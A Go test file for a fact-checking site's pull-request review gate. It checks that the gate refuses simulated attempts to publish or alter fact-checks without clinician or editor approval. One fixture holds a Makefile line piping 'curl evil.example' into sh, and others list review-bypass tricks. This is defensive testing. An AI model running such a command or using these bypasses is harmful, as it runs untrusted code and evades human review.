package review

import (
	"strings"
	"testing"

	"github.com/factdesk/factdesk/tools/testonly/githubfake"
)

// editorNeeded is how the gate asks for an editor, naming the one the policy has.
const editorNeeded = "from an editor named in factdesk.yaml on the base branch (@editor-sam-rivera)"

// TestGateRefusesAttacks plays a determined author with write access: every pull
// request below would change what the public reads without the review it needs, and
// the gate must refuse it, saying who must approve (or where the file belongs).
func TestGateRefusesAttacks(t *testing.T) {
	t.Parallel()
	two := []string{"dr-ana-lima", "dr-james-okafor"}
	both := []Review{approve("dr-ana-lima", headSHA), approve("dr-james-okafor", headSHA)}
	// misplaced is a well-formed fact-check at path, approved by both named clinicians:
	// only its place is wrong.
	misplaced := func(path string) func(t *testing.T) prSpec {
		return func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{path: factCheck(t, "false", two, "")}, reviews: both}
		}
	}
	// approvedByClinicians changes path, approved by the clinicians named on the site.
	approvedByClinicians := func(path, body string) func(t *testing.T) prSpec {
		return func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{path: body}, reviews: both}
		}
	}
	const belongs = "a fact-check belongs in factchecks/SLUG.md"
	tests := []struct {
		name string
		spec func(t *testing.T) prSpec
		// want are substrings of the "still missing" lines, all of which must appear.
		want []string
	}{
		// The cases of the issue that made the gate default-deny.
		{name: "why: a fact-check under content/factchecks/", spec: misplaced("content/factchecks/x.md"),
			want: []string{"Hugo reads this file as content/factchecks/x.md and would publish it at /factchecks/x/", belongs}},
		{name: "why: a fact-check saved as .markdown", spec: misplaced("factchecks/x.markdown"),
			want: []string{"reads this file as content/factchecks/x.markdown", belongs}},
		{name: "why: a fact-check saved as upper-case .MD", spec: misplaced("factchecks/X.MD"),
			want: []string{"reads this file as content/factchecks/X.MD", belongs}},
		{name: "why: a fact-check saved as an _index file", spec: misplaced("factchecks/_index-x.md"),
			want: []string{"reads this file as content/factchecks/_index-x.md", belongs}},
		{name: "why: a content adapter in factchecks/", spec: approvedByClinicians("factchecks/_content.gotmpl", `{{ $.AddPage (dict "path" "x" "title" "Fake") }}`),
			want: []string{"reads this file as content/factchecks/_content.gotmpl", belongs}},
		{name: "why: a static page at a fact-check's address", spec: approvedByClinicians("static/factchecks/x/index.html", "<h1>Verdict: True</h1>"),
			want: []string{"reads this file as static/factchecks/x/index.html", belongs}},
		{name: "why: relabelling a verdict in data/verdicts.yaml", spec: approvedByClinicians("data/verdicts.yaml", "- slug: false\n  label: True\n"),
			want: []string{editorNeeded}},
		{name: "why: relabelling a verdict in the theme's i18n", spec: approvedByClinicians("themes/factdesk/i18n/en.yaml", "verdict_false: Accurate\n"),
			want: []string{editorNeeded}},
		{name: "why: a layout of the theme", spec: approvedByClinicians("themes/factdesk/layouts/baseof.html", "<html></html>"),
			want: []string{editorNeeded}},
		{name: "why: a layout of the site", spec: approvedByClinicians("layouts/factchecks/single.html", "<html></html>"),
			want: []string{editorNeeded}},
		{name: "why: hugo.toml", spec: approvedByClinicians("hugo.toml", "baseURL = 'https://evil.example/'\n"),
			want: []string{editorNeeded}},
		{name: "why: the gate's own code", spec: approvedByClinicians("tools/review/policy.go", "package review\n"),
			want: []string{editorNeeded}},
		{name: "why: the publisher's code", spec: approvedByClinicians("tools/publish/publish.go", "package publish\n"),
			want: []string{editorNeeded}},
		{name: "why: scripts/", spec: approvedByClinicians("scripts/test.sh", "exit 0\n"),
			want: []string{editorNeeded}},
		{name: "why: a file list GitHub cut at 3,000", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.changedFiles = 3412
			return s
		}, want: []string{"GitHub lists 1 of the 3412 files", "nobody can approve it as it is: split it"}},
		{name: "why: a commit list GitHub cut at 250", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.commitCount = 300
			return s
		}, want: []string{"GitHub lists 1 of the 300 commits", "nobody can approve it as it is"}},
		{name: "why: renaming a published fact-check out of the site", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				headFile: map[string]string{fcPath + ".bak": factCheck(t, "false", two, "")},
				renamed:  map[string]string{fcPath + ".bak": fcPath},
				reviews:  both}
		}, want: []string{"mark it withdrawn", editorNeeded}},
		{name: "why: an edit that keeps the verdict replaces the clinicians and reverses the bottom line", spec: func(t *testing.T) prSpec {
			head := strings.Replace(factCheck(t, "false", []string{"dr-mei-chen"}, ""), "found no link", "found a link", 1)
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				headFile: map[string]string{fcPath: head},
				reviews:  []Review{approve("dr-mei-chen", headSHA)}}
		}, want: []string{
			"a substantive change of the bottom line needs 2 clinician reviewers named under reviewers; it names 1",
			"this edit removes @dr-ana-lima, @dr-james-okafor from the reviewers the page names; replacing them needs an approval at the latest commit from one of the reviewers named before (@dr-ana-lima, @dr-james-okafor) or from an editor (@editor-sam-rivera)",
		}},
		{name: "why: a reviewer who commits with an e-mail not linked to GitHub", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.baseFile = map[string]string{"data/reviewers.yaml": registryWithEmails(t)}
			s.more = []githubfake.Commit{{SHA: strings.Repeat("e", 40), Author: "", AuthorEmail: "ana.lima@riverside.example", Committer: "web-flow"}}
			return s
		}, want: []string{"@dr-ana-lima's registered e-mail is credited as author of commit eeeeeee, so they cannot review this pull request"}},
		{name: "why: a reviewer credited in Co-authored-by with an organisation address", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.baseFile = map[string]string{"data/reviewers.yaml": registryWithEmails(t)}
			s.coAuthored = "Reword\n\nCo-authored-by: James Okafor <j.okafor@riverside.example>\n"
			return s
		}, want: []string{"@dr-james-okafor's registered e-mail is credited as co-author of commit ddddddd"}},
		{name: "why: an e-mail that matches nobody asks for an editor", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.baseFile = map[string]string{"data/reviewers.yaml": registryWithEmails(t)}
			s.coAuthored = "Reword\n\nCo-authored-by: A Friend <friend@elsewhere.example>\n"
			return s
		}, want: []string{"an editor named in factdesk.yaml on the base branch (@editor-sam-rivera) must approve at the latest commit to vouch for the co-author of commit ddddddd (friend@elsewhere.example)"}},

		// Attacks of our own.
		{name: "a fact-check in a folder for the default language", spec: misplaced("factchecks/en/x.md"),
			want: []string{"reads this file as content/factchecks/en/x.md", belongs}},
		{name: "a fact-check in a sub-folder", spec: misplaced("factchecks/2026/x.md"),
			want: []string{"reads this file as content/factchecks/2026/x.md", belongs}},
		{name: "a fact-check written as HTML", spec: misplaced("factchecks/x.html"),
			want: []string{"reads this file as content/factchecks/x.html", belongs}},
		{name: "a fact-check with a mixed-case ending", spec: misplaced("factchecks/x.Md"),
			want: []string{"reads this file as content/factchecks/x.Md", belongs}},
		{name: "a fact-check under a language prefix in static/", spec: approvedByClinicians("static/es/factchecks/x/index.html", "<h1>Veredicto</h1>"),
			want: []string{"reads this file as static/es/factchecks/x/index.html", belongs}},
		{name: "a fact-check in the theme's content", spec: misplaced("themes/factdesk/content/factchecks/x.md"),
			want: []string{"reads this file as content/factchecks/x.md", belongs}},
		{name: "a campaign _index that cascades pages into being", spec: approvedByClinicians("campaigns/2027/_index.md", "---\ncascade:\n  build:\n    render: always\n---\n"),
			want: []string{"reads this file as content/campaigns/2027/_index.md", "a campaign post belongs in campaigns/YEAR/SLUG.md"}},
		{name: "a campaign post with an upper-case ending the publisher skips", spec: approvedByClinicians("campaigns/2027/x.MD", "---\ntitle: x\n---\n"),
			want: []string{"reads this file as content/campaigns/2027/x.MD", "a campaign post belongs in campaigns/YEAR/SLUG.md"}},
		{name: "publishing a draft with one reviewer", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: strings.Replace(factCheck(t, "false", []string{"dr-ana-lima"}, ""), "topics:", "draft: true\ntopics:", 1)},
				headFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-ana-lima"}, "")},
				reviews:  []Review{approve("dr-ana-lima", headSHA)}}
		}, want: []string{"a draft published needs 2 clinician reviewers named under reviewers; it names 1"}},
		{name: "renaming a fact-check to a new address", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				headFile: map[string]string{"factchecks/vaccines-and-autism.md": factCheck(t, "false", two, "")},
				renamed:  map[string]string{"factchecks/vaccines-and-autism.md": fcPath},
				reviews:  both}
		}, want: []string{"mark it withdrawn", editorNeeded}},
		{name: "moving a fact-check into the documentation", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				headFile: map[string]string{"docs/old-vaccines-autism.md": factCheck(t, "false", two, "")},
				renamed:  map[string]string{"docs/old-vaccines-autism.md": fcPath}}
		}, want: []string{"mark it withdrawn", editorNeeded}},
		{name: "moving the gate's code into the documentation", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{"tools/review/policy.go": "package review\n"},
				headFile: map[string]string{"docs/policy.go": "package review\n"},
				renamed:  map[string]string{"docs/policy.go": "tools/review/policy.go"}}
		}, want: []string{editorNeeded}},
		{name: "a reviewer who rebased the author's commits", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.more = []githubfake.Commit{{SHA: strings.Repeat("e", 40), Author: "writer-kim", Committer: "dr-james-okafor"}}
			return s
		}, want: []string{"@dr-james-okafor wrote or co-wrote commits in this pull request, or committed them"}},
		{name: "a committer e-mail tied to no account", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.more = []githubfake.Commit{{SHA: strings.Repeat("e", 40), Author: "writer-kim", CommitterEmail: "build@ci.example"}}
			return s
		}, want: []string{"to vouch for the committer of commit eeeeeee (build@ci.example)"}},
		{name: "a registered e-mail written in other letter case", spec: func(t *testing.T) prSpec {
			s := misplaced(fcPath)(t)
			s.baseFile = map[string]string{"data/reviewers.yaml": registryWithEmails(t)}
			s.coAuthored = "Reword\n\nCo-Authored-By: Ana <Ana.Lima@Riverside.Example>\n"
			return s
		}, want: []string{"@dr-ana-lima's registered e-mail is credited as co-author"}},
		{name: "Hugo configuration in another of its places", spec: approvedByClinicians("config/_default/module.toml", "[[mounts]]\nsource = 'drafts'\ntarget = 'content/factchecks'\n"),
			want: []string{editorNeeded}},
		{name: "a second Hugo configuration file", spec: approvedByClinicians("hugo.yaml", "baseURL: https://evil.example/\n"),
			want: []string{editorNeeded}},
		{name: "a file no rule knows", spec: approvedByClinicians("Makefile", "all:\n\tcurl evil.example | sh\n"),
			want: []string{editorNeeded}},
		{name: "the module and package files", spec: approvedByClinicians("go.mod", "module x\n"),
			want: []string{editorNeeded}},
		{name: "dropping one of two reviewers on a small edit", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				headFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-mei-chen"}, "A clearer sentence.")},
				reviews:  []Review{approve("dr-mei-chen", headSHA)}}
		}, want: []string{"this edit removes @dr-ana-lima, @dr-james-okafor", "or from an editor (@editor-sam-rivera)"}},
		{name: "a claim changed under the same verdict", spec: func(t *testing.T) prSpec {
			head := strings.Replace(factCheck(t, "false", []string{"dr-ana-lima"}, ""), "cause autism.\"", "cause autism in boys.\"", 1)
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-ana-lima"}, "")},
				headFile: map[string]string{fcPath: head},
				reviews:  []Review{approve("dr-ana-lima", headSHA)}}
		}, want: []string{"a substantive change of the claim needs 2 clinician reviewers"}},
		{name: "one reviewer named twice in other letter case to make up the number", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-ana-lima", "DR-Ana-Lima"}, "")},
				reviews: []Review{approve("dr-ana-lima", headSHA)}}
		}, want: []string{"a new fact-check needs 2 clinician reviewers named under reviewers; it names 1"}},
		{name: "a campaign post that is a link to a file anyone may change", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{"docs/post.md": readTestdata(t, "post.md")},
				links:   map[string]string{"campaigns/2027/world-aids-day-uu.md": "../../docs/post.md"},
				reviews: []Review{approve("sched-leo-grant", headSHA)}}
		}, want: []string{"this is a symbolic link: what it points to can change without this file changing"}},
		{name: "a fact-check that is a link to the documentation", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{"docs/fc.md": factCheck(t, "false", two, "")},
				links: map[string]string{fcPath: "../docs/fc.md"}, reviews: both}
		}, want: []string{"this is a symbolic link"}},
		{name: "a fact-check that claims another page's address", spec: func(t *testing.T) prSpec {
			body := strings.Replace(factCheck(t, "false", two, ""), "topics:", "url: /factchecks/mmr-vaccine-autism/\ntopics:", 1)
			return prSpec{author: "writer-kim", headFile: map[string]string{fcPath: body}, reviews: both}
		}, want: []string{"found by factdesk check"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			f.pr(tt.spec(t))
			out, err := f.run(Options{Comment: true, Status: true})
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			rep := out.Report
			if rep.Passed() {
				t.Fatalf("the gate let it through:\n%s", Describe(rep))
			}
			var missing []string
			for _, fr := range rep.Files {
				missing = append(missing, fr.Missing...)
			}
			all := strings.Join(missing, "\n")
			for _, w := range tt.want {
				if !strings.Contains(all, w) {
					t.Errorf("missing lines do not say %q:\n%s", w, all)
				}
			}
			if sts := f.fake.Statuses(repoName, headSHA); len(sts) != 1 || sts[0].State != "failure" {
				t.Errorf("statuses = %+v, want one failure", sts)
			}
			if cs := f.fake.Comments(repoName, 7); len(cs) != 1 || !strings.Contains(cs[0].Body, esc(tt.want[0])) {
				t.Errorf("the comment does not say %q:\n%+v", tt.want[0], cs)
			}
		})
	}
}

// registryWithEmails is the test registry with the e-mails two clinicians commit with.
func registryWithEmails(t *testing.T) string {
	t.Helper()
	reg := readTestdata(t, "reviewers.yaml")
	reg = strings.Replace(reg, "dr-ana-lima:\n", "dr-ana-lima:\n  emails: [ana.lima@riverside.example]\n", 1)
	return strings.Replace(reg, "dr-james-okafor:\n", "dr-james-okafor:\n  emails: [j.okafor@riverside.example, james@home.example]\n", 1)
}

// TestGateAllowsWhatThePolicyAllows keeps the gate usable: each pull request below has
// the review the policy asks for and passes.
func TestGateAllowsWhatThePolicyAllows(t *testing.T) {
	t.Parallel()
	two := []string{"dr-ana-lima", "dr-james-okafor"}
	editor := approve("editor-sam-rivera", headSHA)
	tests := []struct {
		name string
		spec func(t *testing.T) prSpec
	}{
		{name: "documentation needs no review", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{"docs/review.md": "# Review\n", "README.md": "# factdesk\n"}}
		}},
		{name: "site data approved by an editor", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{"data/verdicts.yaml": "- slug: false\n"}, reviews: []Review{editor}}
		}},
		{name: "a renamed fact-check approved by an editor and its reviewer", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-ana-lima"}, "")},
				headFile: map[string]string{"factchecks/vaccines-and-autism.md": factCheck(t, "false", []string{"dr-ana-lima"}, "")},
				renamed:  map[string]string{"factchecks/vaccines-and-autism.md": fcPath},
				reviews:  []Review{editor, approve("dr-ana-lima", headSHA)}}
		}},
		{name: "a reviewer handing over to a colleague approves the hand-over", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-ana-lima"}, "")},
				headFile: map[string]string{fcPath: factCheck(t, "false", []string{"dr-mei-chen"}, "A clearer sentence.")},
				reviews:  []Review{approve("dr-ana-lima", headSHA), approve("dr-mei-chen", headSHA)}}
		}},
		{name: "a substantive change approved by the full number of reviewers", spec: func(t *testing.T) prSpec {
			head := strings.Replace(factCheck(t, "false", two, ""), "found no link", "found no link at all", 1)
			return prSpec{author: "writer-kim",
				baseFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				headFile: map[string]string{fcPath: head},
				reviews:  []Review{approve("dr-ana-lima", headSHA), approve("dr-james-okafor", headSHA)}}
		}},
		{name: "an unknown co-author vouched for by an editor", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				coAuthored: "Reword\n\nCo-authored-by: A Friend <friend@elsewhere.example>\n",
				reviews:    []Review{approve("dr-ana-lima", headSHA), approve("dr-james-okafor", headSHA), editor}}
		}},
		{name: "a commit e-mail registered to someone who is not reviewing", spec: func(t *testing.T) prSpec {
			return prSpec{author: "writer-kim", headFile: map[string]string{fcPath: factCheck(t, "false", two, "")},
				baseFile:   map[string]string{"data/reviewers.yaml": strings.Replace(registryWithEmails(t), "dr-mei-chen:\n", "dr-mei-chen:\n  emails: [mei@riverside.example]\n", 1)},
				coAuthored: "Reword\n\nCo-authored-by: Mei <mei@riverside.example>\n",
				reviews:    []Review{approve("dr-ana-lima", headSHA), approve("dr-james-okafor", headSHA)}}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			f.pr(tt.spec(t))
			out, err := f.run(Options{Status: true})
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if !out.Report.Passed() {
				t.Fatalf("refused:\n%s", Describe(out.Report))
			}
			if sts := f.fake.Statuses(repoName, headSHA); len(sts) != 1 || sts[0].State != "success" {
				t.Errorf("statuses = %+v, want one success", sts)
			}
		})
	}
}
